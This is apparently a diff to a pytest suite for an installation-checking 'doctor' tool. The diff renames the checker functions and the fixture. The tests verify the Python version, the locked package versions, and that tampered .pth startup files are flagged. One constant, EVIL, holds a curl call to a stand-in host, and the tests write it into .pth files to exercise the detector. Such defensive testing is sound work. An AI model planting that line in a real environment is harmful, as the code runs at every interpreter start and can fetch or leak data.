@@ -9,18 +9,18 @@ import pytest
 
 from bridge.doctor import installation
 from bridge.doctor.finding import Level
-from bridge.doctor.installation import look_at_packages, look_at_path_files, look_at_python
+from bridge.doctor.installation import check_packages, check_path_files, check_python
 
 EVIL = "import os; os.system('curl https://elsewhere.example')\n"
 
 
-def test_this_python_will_do(patient) -> None:
-    assert look_at_python(patient()).level is Level.GREEN
+def test_this_python_will_do(installation) -> None:
+    assert check_python(installation()).level is Level.GREEN
 
 
-def test_an_old_python_will_not(patient, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_an_old_python_will_not(installation, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(sys, "version_info", (3, 10, 4))
-    found = look_at_python(patient())
+    found = check_python(installation())
     assert found.level is Level.RED
     assert "3.10.4" in found.says
 
@@ -44,8 +44,8 @@ OURS = (installation.PROJECT / "requirements.lock").read_text()
 DEVELOPMENT = (installation.PROJECT / "requirements-dev.lock").read_text()
 
 
-def test_packages_as_locked_are_fine(patient) -> None:
-    assert look_at_packages(patient()).level is Level.GREEN
+def test_packages_as_locked_are_fine(installation) -> None:
+    assert check_packages(installation()).level is Level.GREEN
 
 
 @pytest.mark.parametrize(
@@ -56,28 +56,28 @@ def test_packages_as_locked_are_fine(patient) -> None:
         ("Flask==1.0 ; sys_platform == 'win32'", "flask is 3"),
     ],
 )
-def test_another_version_and_a_missing_package_are_told(patient, lock, line: str, said: str) -> None:
+def test_another_version_and_a_missing_package_are_told(installation, lock, line: str, said: str) -> None:
     lock(OURS + f"{line} \\\n    --hash=sha256:0\n", DEVELOPMENT)
-    found = look_at_packages(patient())
+    found = check_packages(installation())
     assert found.level is Level.RED
     assert said in found.says
 
 
-def test_a_package_of_other_platforms_may_be_missing(patient, lock) -> None:
+def test_a_package_of_other_platforms_may_be_missing(installation, lock) -> None:
     lock(OURS + "colorama-of-windows==0.4 ; sys_platform == 'win32' \\\n    --hash=sha256:0\n", DEVELOPMENT)
-    assert look_at_packages(patient()).level is Level.GREEN
+    assert check_packages(installation()).level is Level.GREEN
 
 
-def test_a_package_that_is_in_no_lock_is_told(patient, lock) -> None:
+def test_a_package_that_is_in_no_lock_is_told(installation, lock) -> None:
     lock(OURS)
-    found = look_at_packages(patient())
+    found = check_packages(installation())
     assert found.level is Level.YELLOW
     assert "pytest" in found.says
 
 
-def test_without_a_lock_there_is_nothing_to_compare(patient, lock) -> None:
+def test_without_a_lock_there_is_nothing_to_compare(installation, lock) -> None:
     lock("")
-    assert look_at_packages(patient()).level is Level.YELLOW
+    assert check_packages(installation()).level is Level.YELLOW
 
 
 # --- path files --------------------------------------------------------------------------------------
@@ -100,35 +100,37 @@ def bring(folder: Path, package: str, name: str, text: str, recorded: str | None
     (about / "RECORD").write_text(f"{name},sha256={recorded or installation._hash(folder / name)},1\n")
 
 
-def test_the_path_files_here_are_known(patient) -> None:
-    assert look_at_path_files(patient()).level is Level.GREEN
+def test_the_path_files_here_are_known(installation) -> None:
+    assert check_path_files(installation()).level is Level.GREEN
 
 
-def test_a_known_path_file_is_fine_as_long_as_it_is_unchanged(patient, packages: Path) -> None:
+def test_a_known_path_file_is_fine_as_long_as_it_is_unchanged(installation, packages: Path) -> None:
     bring(packages, "setuptools", "distutils-precedence.pth", "import os\n")
-    assert look_at_path_files(patient()).level is Level.GREEN
+    assert check_path_files(installation()).level is Level.GREEN
     (packages / "distutils-precedence.pth").write_text(EVIL)
-    assert look_at_path_files(patient()).level is Level.RED
+    assert check_path_files(installation()).level is Level.RED
 
 
 @pytest.mark.parametrize("package", [None, "flask", "some-stranger"])
-def test_code_that_runs_at_every_start_is_told_whoever_brought_it(patient, packages: Path, package) -> None:
+def test_code_that_runs_at_every_start_is_told_whoever_brought_it(
+    installation, packages: Path, package
+) -> None:
     if package:
         bring(packages, package, "helper_init.pth", EVIL)
     (packages / "helper_init.pth").write_text(EVIL)
-    found = look_at_path_files(patient())
+    found = check_path_files(installation())
     assert found.level is Level.RED
     assert "helper_init.pth" in found.says
     assert "change every key" in found.remedy
 
 
-def test_in_a_release_the_tools_of_a_checkout_are_strangers(patient, packages: Path, lock) -> None:
+def test_in_a_release_the_tools_of_a_checkout_are_strangers(installation, packages: Path, lock) -> None:
     bring(packages, "google-generativeai", "google-nspkg.pth", "import sys\n")
-    assert look_at_path_files(patient()).level is Level.GREEN
+    assert check_path_files(installation()).level is Level.GREEN
     lock(OURS)
-    assert look_at_path_files(patient()).level is Level.RED
+    assert check_path_files(installation()).level is Level.RED
 
 
-def test_another_folder_to_import_from_is_noted(patient, packages: Path) -> None:
+def test_another_folder_to_import_from_is_noted(installation, packages: Path) -> None:
     (packages / "more.pth").write_text("/srv/more\n")
-    assert look_at_path_files(patient()).level is Level.YELLOW
+    assert check_path_files(installation()).level is Level.YELLOW
